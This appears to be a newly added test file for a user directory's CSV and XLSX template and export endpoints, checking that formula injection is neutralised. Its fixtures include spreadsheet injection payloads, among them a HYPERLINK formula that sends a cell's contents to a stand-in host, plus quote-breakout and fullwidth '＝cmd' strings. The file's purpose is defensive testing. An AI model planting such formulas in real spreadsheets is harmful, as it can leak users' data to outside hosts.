@@ -1,0 +1,117 @@
+import ExcelJS from 'exceljs';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { unescapeFormula } from '../../src/bulk/formula.js';
+import { USER_EXPORT_COLUMNS, USER_TEMPLATE_COLUMNS } from '../../src/directory/file-format.js';
+import { createTestPippin, type TestPippin } from '../support/app.js';
+import { ENGINES } from '../support/db.js';
+
+const readXlsx = async (body: Buffer) => {
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(body as unknown as ArrayBuffer);
+  return wb;
+};
+
+describe.each(ENGINES)('users template and export on %s', (engine) => {
+  let t: TestPippin;
+  const tricky = [
+    { username: 'formula', email: 'f@x.example', fullName: '=HYPERLINK("http://x/?"&A1,"y")', phone: '+1 555 0100' },
+    { username: 'breakout', email: 'b@x.example', fullName: '=1+2";=1+2' },
+    { username: 'minus', email: 'm@x.example', fullName: '-42', groups: ['@admins', 'Sales'] },
+    { username: 'fullwidth', email: 'w@x.example', fullName: '＝cmd' },
+    { username: 'quoted', email: 'q@x.example', fullName: "'=already" },
+    { username: 'plain', email: 'p@x.example', fullName: 'Zoë Ångström, Jr.', managedAppleId: 'plain@appleid.example.com' },
+  ];
+  beforeAll(async () => {
+    t = await createTestPippin(engine);
+    for (const u of tricky) expect((await t.call(t.owner, 'POST', '/api/v1/users', u)).statusCode).toBe(201);
+  });
+  afterAll(() => t?.close());
+
+  it('serves the CSV template: BOM, the columns, one example row', async () => {
+    const res = await t.call(t.owner, 'GET', '/api/v1/users/template?format=csv');
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toMatch(/text\/csv/);
+    expect(res.headers['content-disposition']).toContain('users-template.csv');
+    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    const rows = parse(res.rawPayload, { bom: true }) as string[][];
+    expect(rows[0]).toEqual(USER_TEMPLATE_COLUMNS.map((c) => c.header));
+    expect(rows).toHaveLength(2);
+    expect(rows[1]![rows[0]!.indexOf('Managed Apple ID')]).toMatch(/@appleid\.example\.com$/);
+  });
+
+  it('serves the XLSX template with a styled header, widths and an Instructions sheet', async () => {
+    const res = await t.call(t.owner, 'GET', '/api/v1/users/template?format=xlsx');
+    expect(res.statusCode).toBe(200);
+    expect(res.rawPayload.subarray(0, 4)).toEqual(Buffer.from('PK\u0003\u0004', 'binary'));
+    const wb = await readXlsx(res.rawPayload);
+    expect(wb.worksheets.map((w) => w.name)).toEqual(['Users', 'Instructions']);
+    const users = wb.getWorksheet('Users')!;
+    expect((users.getRow(1).values as unknown[]).slice(1)).toEqual(USER_TEMPLATE_COLUMNS.map((c) => c.header));
+    expect(users.getRow(1).getCell(1).font?.bold).toBe(true);
+    expect(users.getColumn(8).width).toBeGreaterThan(20);
+    expect(users.rowCount).toBe(2);
+    const instructions = wb.getWorksheet('Instructions')!;
+    expect(JSON.stringify(instructions.getSheetValues())).toContain('Managed Apple ID');
+  });
+
+  it('exports CSV with formula triggers neutralised, one cell per value, and reversible', async () => {
+    const res = await t.call(t.owner, 'GET', '/api/v1/users/export?format=csv&sort=username');
+    expect(res.statusCode).toBe(200);
+    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    const rows = parse(res.rawPayload, { bom: true }) as string[][];
+    expect(rows[0]).toEqual(USER_EXPORT_COLUMNS.map((c) => c.header));
+    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([USER_EXPORT_COLUMNS.length]));
+    const col = (name: string) => rows[0]!.indexOf(name);
+    const byName = new Map(rows.slice(1).map((r) => [r[col('Username')]!, r]));
+    expect(byName.get('formula')![col('Full Name')]).toBe(`'=HYPERLINK("http://x/?"&A1,"y")`);
+    expect(byName.get('formula')![col('Phone Number')]).toBe("'+1 555 0100");
+    expect(byName.get('breakout')![col('Full Name')]).toBe(`'=1+2";=1+2`);
+    expect(byName.get('minus')![col('Groups')]).toBe("'@admins;Sales");
+    expect(byName.get('fullwidth')![col('Full Name')]).toBe("'＝cmd");
+    expect(byName.get('plain')![col('Managed Apple ID')]).toBe('plain@appleid.example.com');
+    for (const u of tricky) {
+      expect(unescapeFormula(byName.get(u.username)![col('Full Name')]!)).toBe(u.fullName);
+    }
+    expect(byName.get('plain')![col('User ID')]).toMatch(/^[0-9a-f-]{36}$/);
+  });
+
+  it('exports XLSX with plain string cells, neutralised the same way', async () => {
+    const res = await t.call(t.owner, 'GET', '/api/v1/users/export?format=xlsx');
+    expect(res.statusCode).toBe(200);
+    const ws = (await readXlsx(res.rawPayload)).getWorksheet('Users')!;
+    const values: string[] = [];
+    ws.eachRow((row, i) => {
+      if (i > 1) row.eachCell((cell) => {
+        expect(cell.type).toBe(ExcelJS.ValueType.String);
+        values.push(String(cell.value));
+      });
+    });
+    expect(values).toContain(`'=HYPERLINK("http://x/?"&A1,"y")`);
+    expect(values).toContain("'-42");
+  });
+
+  it("applies the list's filters and sort, and audits who exported what", async () => {
+    const res = await t.call(t.owner, 'GET', '/api/v1/users/export?format=csv&managedAppleId=missing&sort=-username&q=f');
+    const rows = parse(res.rawPayload, { bom: true }) as string[][];
+    expect(rows.slice(1).map((r) => r[0])).toEqual(['fullwidth', 'formula']);
+    const events = (await t.call(t.owner, 'GET', '/api/v1/audit?action=user.export')).json().items;
+    expect(events[0].after).toMatchObject({ format: 'csv', rows: 2, filter: { managedAppleId: 'missing', q: 'f', sort: 'username', descending: true } });
+    expect(events[0].actor.label).toBe('owner@example.com');
+  });
+
+  it('refuses an export to roles without it (helpdesk, auditor), and lets an admin', async () => {
+    for (const role of ['helpdesk', 'auditor'] as const) {
+      const c = await t.adminWithRole(role);
+      const res = await t.call(c, 'GET', '/api/v1/users/export');
+      expect(res.statusCode).toBe(403);
+      expect(res.json().error.code).toBe('FORBIDDEN');
+      expect((await t.call(c, 'GET', '/api/v1/users/template')).statusCode).toBe(200);
+    }
+    expect((await t.call(await t.adminWithRole('admin'), 'GET', '/api/v1/users/export')).statusCode).toBe(200);
+  });
+
+  it('refuses a bad format', async () => {
+    expect((await t.call(t.owner, 'GET', '/api/v1/users/export?format=xls')).statusCode).toBe(400);
+  });
+});
